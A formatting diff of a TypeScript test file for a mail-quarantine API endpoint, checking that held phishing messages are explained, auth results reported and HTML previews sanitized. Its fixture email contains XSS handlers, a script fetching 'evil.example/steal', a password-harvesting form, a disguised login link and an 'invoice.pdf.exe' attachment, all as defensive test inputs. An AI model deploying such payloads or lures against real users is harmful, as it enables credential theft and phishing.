@@ -6,7 +6,10 @@ let f: SelfServiceFixture;
 let agent: Awaited<ReturnType<SelfServiceFixture["user"]>>;
 let heldId: string;
 
-const PIXEL_PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
+const PIXEL_PNG = Buffer.from(
+  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+  "base64",
+);
 
 async function hostileMessage(to: string): Promise<Buffer> {
   const composer = new MailComposer({
@@ -15,10 +18,13 @@ async function hostileMessage(to: string): Promise<Buffer> {
     cc: "team@example.com",
     subject: "Password expires today",
     messageId: "<hostile-1@helpdesk-login.example>",
-    headers: { "Authentication-Results": "mx.example.com; spf=fail smtp.mailfrom=helpdesk-login.example; dkim=none; dmarc=fail header.from=helpdesk-login.example" },
+    headers: {
+      "Authentication-Results":
+        "mx.example.com; spf=fail smtp.mailfrom=helpdesk-login.example; dkim=none; dmarc=fail header.from=helpdesk-login.example",
+    },
     text: "Keep your password at https://login.evil.example/reset",
     html: [
-      "<p onclick=\"alert(1)\">Dear user,</p>",
+      '<p onclick="alert(1)">Dear user,</p>',
       "<script>fetch('https://evil.example/steal')</script>",
       '<a href="https://login.evil.example/reset">https://portal.office.com</a>',
       '<a href="javascript:alert(2)">click</a>',
@@ -27,7 +33,11 @@ async function hostileMessage(to: string): Promise<Buffer> {
       '<form action="https://evil.example"><input name="pw"></form>',
     ].join("\n"),
     attachments: [
-      { filename: "invoice.pdf.exe", content: Buffer.from("MZ fake"), contentType: "application/octet-stream" },
+      {
+        filename: "invoice.pdf.exe",
+        content: Buffer.from("MZ fake"),
+        contentType: "application/octet-stream",
+      },
       { filename: "logo.png", content: PIXEL_PNG, contentType: "image/png", cid: "logo@x" },
     ],
   });
@@ -43,7 +53,12 @@ beforeAll(async () => {
     raw: await hostileMessage(agent.email),
     reason: "phish",
     signals: [
-      { id: "auth.dmarc_fail", label: "The sender's domain says this message is not theirs (DMARC failed).", weight: 4, detail: "p=reject" },
+      {
+        id: "auth.dmarc_fail",
+        label: "The sender's domain says this message is not theirs (DMARC failed).",
+        weight: 4,
+        detail: "p=reject",
+      },
       { id: "url.text_mismatch", label: "A link shows one address but goes to another.", weight: 3 },
       { id: "auth.dkim_pass", label: "Signed", weight: -1 },
     ],
@@ -58,15 +73,27 @@ describe("GET /api/held/:id", () => {
   it("explains the hold in plain words, strongest signal first, and lists headers, auth results and attachments", async () => {
     const res = await agent.client.request("GET", `/api/held/${heldId}`);
     expect(res.status).toBe(200);
-    expect(res.json).toMatchObject({ id: heldId, reason: "phish", messageId: "<hostile-1@helpdesk-login.example>", cc: ["team@example.com"] });
+    expect(res.json).toMatchObject({
+      id: heldId,
+      reason: "phish",
+      messageId: "<hostile-1@helpdesk-login.example>",
+      cc: ["team@example.com"],
+    });
     expect(res.json.signals).toEqual([
-      { name: "auth.dmarc_fail", score: 4, detail: "p=reject", label: "The sender's domain says this message is not theirs (DMARC failed)." },
+      {
+        name: "auth.dmarc_fail",
+        score: 4,
+        detail: "p=reject",
+        label: "The sender's domain says this message is not theirs (DMARC failed).",
+      },
       { name: "url.text_mismatch", score: 3, label: "A link shows one address but goes to another." },
     ]);
     expect(res.json.auth).toEqual({ spf: "fail", dkim: "none", dmarc: "fail", arc: "none" });
     const headers = res.json.headers as Array<{ name: string; value: string }>;
     expect(headers.find((h) => h.name === "subject")?.value).toBe("Password expires today");
-    expect(res.json.attachments).toEqual([{ filename: "invoice.pdf.exe", contentType: "application/octet-stream", size: 7 }]);
+    expect(res.json.attachments).toEqual([
+      { filename: "invoice.pdf.exe", contentType: "application/octet-stream", size: 7 },
+    ]);
   });
 
   it("serves a sanitized preview: no script, no handlers, no javascript: links, no forms, remote images blocked, links with real targets", async () => {
@@ -77,7 +104,9 @@ describe("GET /api/held/:id", () => {
     expect(html).toContain('data-mw-blocked="remote"');
     expect(html).toContain("data:image/png;base64,");
     expect(res.json.remoteImagesBlocked).toBe(true);
-    expect(res.json.links).toEqual([{ text: "https://portal.office.com", href: "https://login.evil.example/reset" }]);
+    expect(res.json.links).toEqual([
+      { text: "https://portal.office.com", href: "https://login.evil.example/reset" },
+    ]);
   });
 
   it("shows remote images only when asked (?images=1)", async () => {
@@ -90,7 +119,9 @@ describe("GET /api/held/:id", () => {
   it("answers 404 for someone else's message and for an unknown id", async () => {
     const other = await f.user();
     expect((await other.client.request("GET", `/api/held/${heldId}`)).status).toBe(404);
-    expect((await agent.client.request("GET", "/api/held/00000000-0000-4000-8000-000000000000")).status).toBe(404);
+    expect((await agent.client.request("GET", "/api/held/00000000-0000-4000-8000-000000000000")).status).toBe(
+      404,
+    );
   });
 
   it("audits a security admin looking at someone else's held message", async () => {
